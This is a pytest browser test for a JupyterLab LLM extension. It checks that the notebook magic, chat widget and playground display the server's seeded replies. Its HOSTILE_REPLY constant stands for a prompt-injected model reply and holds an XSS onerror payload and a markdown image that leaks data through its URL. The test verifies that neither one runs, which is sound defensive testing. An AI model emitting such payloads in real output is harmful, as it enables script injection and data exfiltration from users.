"""A person's view of a notebook: JupyterLab in headless chromium runs `%%xllm`, a ChatWidget and the playground.

JupyterLab runs in a subprocess with the xllm extension serving the tiny Llama; its
kernels find the engine through the ``XLLM_BASE_URL``/``XLLM_API_KEY`` it exports. The
browser opens a notebook, runs all cells from the Run menu, waits for the magic's
answer, then types into the ChatWidget and presses Send, and chats in the playground
shown inline below it, as a person would. What the
page shows must be what the server answers for the same seeded request. Screenshots go
to tests/artifacts/ (gitignored).
"""

from __future__ import annotations

import re

import nbformat
import pytest

from tests.browser import ARTIFACTS, chromium, jupyter_lab, require_browser
from tests.server_fixtures import TINY

pytestmark = [pytest.mark.timeout(600)]

NOTEBOOK = "xllm-browser.ipynb"
MAGIC_PROMPT = "Say hello."
WIDGET_PROMPT = "Tell me a story."
PLAYGROUND_PROMPT = "Name a colour."
# The tiny model's weights are random and its greedy answer is only newlines, so both
# requests sample with a fixed seed: the page must show exactly what the server answers.
MAGIC = {"temperature": 1.0, "seed": 3, "max_tokens": 12}
WIDGET = {"temperature": 1.0, "top_p": 1.0, "seed": 5, "max_tokens": 12}
# A reply a prompt injection could get out of a model: script in raw HTML, an image that leaks
# data in its URL; shown as %%xllm shows answers. Math and code must still render.
HOSTILE_REPLY = (
    'Sure <img src=x onerror="window.__pwned=1"> ![leak](http://127.0.0.1:9/?d=secret) '
    "and $x^2$ with `a<b>`.\n\n```python\nprint('<ok>')\n```"
)


def write_notebook(path) -> None:
    """The notebook the browser runs: the magic, then a ChatWidget."""
    cells = [
        nbformat.v4.new_code_cell("%load_ext xllm_jupyter"),
        nbformat.v4.new_code_cell(
            f"%%xllm -f text -t {MAGIC['temperature']} --seed {MAGIC['seed']} --max-tokens {MAGIC['max_tokens']}\n{MAGIC_PROMPT}"
        ),
        nbformat.v4.new_code_cell(
            "import xllm_jupyter\n"
            f"chat = xllm_jupyter.ChatWidget(temperature={WIDGET['temperature']}, top_p={WIDGET['top_p']}, "
            f"max_tokens={WIDGET['max_tokens']}, params={{'seed': {WIDGET['seed']}}})\n"
            "chat"
        ),
        nbformat.v4.new_code_cell("pg = xllm_jupyter.playground()\npg"),
        nbformat.v4.new_code_cell(f"from xllm_jupyter.magics.render import Reply\nReply('markdown', {HOSTILE_REPLY!r})"),
    ]
    nb = nbformat.v4.new_notebook(
        cells=cells,
        metadata={
            "kernelspec": {
                "name": "python3",
                "display_name": "Python 3",
                "language": "python",
            }
        },
    )
    nbformat.write(nb, str(path))


def squash(text: str) -> str:
    """Whitespace-insensitive form (the browser wraps and collapses what it shows)."""
    return re.sub(r"\s+", "", text)


@pytest.fixture(scope="module")
def lab(tmp_path_factory, xllm_home):
    """JupyterLab with the xllm extension serving "tiny", and the notebook in its root."""
    require_browser()
    workdir = tmp_path_factory.mktemp("lab-notebook")
    write_notebook(workdir / NOTEBOOK)
    config = {
        "XllmApp": {"default_model": TINY, "home": str(xllm_home), "max_batch_size": 4}
    }
    env = {"XLLM_MODEL": TINY, "GRADIO_ANALYTICS_ENABLED": "False"}
    with jupyter_lab(
        workdir, config=config, env=env, name="notebook-browser"
    ) as server:
        yield server


def expected_reply(lab, prompt: str, params: dict) -> str:
    """What the server answers for the same request (seeded sampling is deterministic)."""
    body = {"model": TINY, "messages": [{"role": "user", "content": prompt}], **params}
    reply = lab.api("xllm/v1/chat/completions", method="POST", body=body, timeout=120)
    return reply["choices"][0]["message"]["content"]


def dismiss_dialogs(page) -> None:
    """Close a modal JupyterLab opened over the notebook, printing what it said.

    A CI run on a loaded machine once had a dialog intercept the click on the notebook (its text was
    not kept); Escape dismisses JupyterLab's dialogs without accepting anything. "Select Kernel" is
    accepted instead (its choice is the notebook's python3): on a loaded machine the lab sometimes
    asks rather than starting the kernel itself, Escape leaves the notebook with no kernel, and the
    dialog came back for every click (a run failed on it three times in a row).
    """
    dialog = page.locator(".jp-Dialog")
    for _ in range(3):
        if not dialog.count() or not dialog.first.is_visible():
            return
        text = " ".join(dialog.first.inner_text().split())
        print("JupyterLab dialog dismissed:", text[:300])
        if text.startswith("Select Kernel"):
            dialog.first.locator("button.jp-mod-accept").click()
        else:
            page.keyboard.press("Escape")
        try:  # (a loaded machine closes it slowly: three 300 ms looks once left it up for the next click)
            dialog.first.wait_for(state="hidden", timeout=10_000)
        except Exception:  # still up: the next round looks again
            pass
        page.wait_for_timeout(300)


def click_past_dialogs(page, locator) -> None:
    """``locator.click()``, dismissing any JupyterLab dialog that opens over it first (up to four tries)."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeoutError

    for attempt in range(4):
        dismiss_dialogs(page)
        try:
            locator.click(timeout=15_000)
            return
        except PlaywrightTimeoutError:
            if attempt == 3:
                raise


def run_all_cells(page) -> None:
    """Run > Run All Cells, from the menu bar; again if no cell started within 30 s.

    The menu acts on the current widget: opened before the notebook is, its item is there
    but does nothing (a CI run once waited 120 s for output that was never asked for).
    """
    from playwright.sync_api import TimeoutError as PlaywrightTimeoutError

    first_prompt = "document.querySelector('.jp-NotebookPanel .jp-CodeCell .jp-InputPrompt').textContent"
    for attempt in range(2):
        click_past_dialogs(page, page.locator(".jp-NotebookPanel .jp-CodeCell .jp-InputPrompt").first)  # notebook current
        page.locator(".lm-MenuBar-item", has_text=re.compile(r"^Run$")).click()
        page.locator('.lm-Menu-item[data-command="runmenu:run-all"]:not(.lm-mod-disabled)').click()
        try:
            page.wait_for_function(f"() => /\\[(\\*|\\d+)\\]/.test({first_prompt})", timeout=30_000)
            return
        except PlaywrightTimeoutError:
            if attempt:
                raise


def test_magic_and_chat_widget_in_jupyterlab(lab):
    with chromium(viewport=(1280, 1400)) as context:
        page = context.new_page()
        errors: list[str] = []
        page.on("pageerror", lambda exc: errors.append(str(exc)))
        page.goto(
            lab.lab_url(f"lab/tree/{NOTEBOOK}"),
            wait_until="domcontentloaded",
            timeout=120_000,
        )
        page.locator(".jp-NotebookPanel .jp-CodeCell").nth(2).wait_for(timeout=120_000)
        # The kernel must be up before "Run All" (the toolbar shows its status).
        page.wait_for_selector(
            ".jp-NotebookPanel .jp-Notebook-ExecutionIndicator[data-status='idle']",
            timeout=120_000,
        )

        run_all_cells(page)

        cells = page.locator(".jp-NotebookPanel .jp-CodeCell")
        magic_out = cells.nth(1).locator(".jp-OutputArea-output")
        magic_out.first.wait_for(state="visible", timeout=120_000)
        # The magic's answer streams in; wait for the cell to finish (its prompt gets a number).
        page.wait_for_function(
            "() => /\\[\\d+\\]/.test(document.querySelectorAll('.jp-NotebookPanel .jp-CodeCell')[1]"
            ".querySelector('.jp-InputPrompt').textContent)",
            timeout=180_000,
        )
        shown = magic_out.all_inner_texts()
        expected = expected_reply(lab, MAGIC_PROMPT, MAGIC)
        assert squash(expected), "the server's answer is empty"
        assert squash(expected) in squash("".join(shown)), (shown, expected)
        assert (
            not cells.nth(1)
            .locator(
                ".jp-OutputArea-output[data-mime-type='application/vnd.jupyter.stderr']"
            )
            .count()
        )

        # The ChatWidget renders (ipywidgets' JupyterLab manager) with the model picked.
        widget = cells.nth(2).locator(".jp-OutputArea-output .widget-vbox").first
        widget.wait_for(state="visible", timeout=120_000)
        assert widget.locator("select").first.input_value() == TINY
        box = widget.locator('textarea[placeholder="Type a message and press Send"]')
        box.fill(WIDGET_PROMPT)
        widget.locator("button", has_text="Send").click()
        transcript = widget.locator(".xllm-chat-transcript .widget-html-content")
        # Done when the status line reports the token count.
        widget.locator(
            ".widget-html-content", has_text=re.compile(r"\d+ tokens in")
        ).wait_for(timeout=180_000)
        text = transcript.inner_text()
        assert "You" in text and WIDGET_PROMPT in text and "Assistant" in text
        answer = expected_reply(lab, WIDGET_PROMPT, WIDGET)
        assert squash(answer) and squash(answer) in squash(text), (text, answer)

        # What a person sees: the magic's answer and the widget's reply on one screen.
        ARTIFACTS.mkdir(exist_ok=True)
        cells.nth(1).scroll_into_view_if_needed()
        assert magic_out.first.is_visible() and transcript.is_visible()
        shot = ARTIFACTS / "notebook-magic-chatwidget.png"
        page.screenshot(path=str(shot))
        assert shot.stat().st_size > 10_000

        # The playground shows inline: an iframe on the Gradio app the kernel started.
        frame = cells.nth(3).frame_locator("iframe")
        gradio_box = frame.locator("#xllm-input textarea")
        gradio_box.wait_for(timeout=180_000)
        # seeded: the random model's reply could start with an end token and leave no text to wait for
        frame.get_by_role("textbox", name="Seed").fill("1")
        gradio_box.fill(PLAYGROUND_PROMPT)
        gradio_box.press("Enter")
        # The app is on another port (another origin): read it through Playwright's frame, not the DOM.
        bot = frame.locator(
            "#xllm-chatbot [data-testid='bot']", has_text=re.compile(r"\S")
        ).last
        from playwright.sync_api import TimeoutError as PlaywrightTimeoutError

        try:
            bot.wait_for(timeout=60_000)
        except PlaywrightTimeoutError:
            # One CI run in three (stop 25, loaded machine) saw no reply in 120 s; unexplained. A sent
            # question leaves the box empty: if it still holds the question, the Enter was not taken
            # (say so, and press it again as a person would); else the reply is only slow.
            left = gradio_box.input_value()
            print(f"playground: no reply after 60 s; the box holds {left!r}")
            if left == PLAYGROUND_PROMPT:
                gradio_box.press("Enter")
            bot.wait_for(timeout=120_000)
        assert PLAYGROUND_PROMPT in frame.locator("#xllm-chatbot").inner_text()
        cells.nth(3).scroll_into_view_if_needed()
        page.screenshot(path=str(ARTIFACTS / "notebook-playground-inline.png"))

        # A hostile reply runs no script and fetches no image; its math, code and link still show.
        hostile = cells.nth(4).locator(".jp-OutputArea-output[data-mime-type='text/markdown']")
        hostile.wait_for(timeout=60_000)
        hostile.locator("mjx-container").first.wait_for(timeout=60_000)  # $x^2$ typeset by MathJax
        assert page.evaluate("() => window.__pwned") is None
        assert not hostile.locator("img").count()
        assert hostile.locator("a[href='http://127.0.0.1:9/?d=secret']").inner_text() == "leak"
        assert "a<b>" in hostile.locator("code").first.inner_text()
        assert "print('<ok>')" in hostile.locator("pre").inner_text()
        # Nothing failed in the page or in a cell.
        assert not page.locator(
            ".jp-OutputArea-output[data-mime-type='application/vnd.jupyter.error']"
        ).count()
        assert not errors, errors
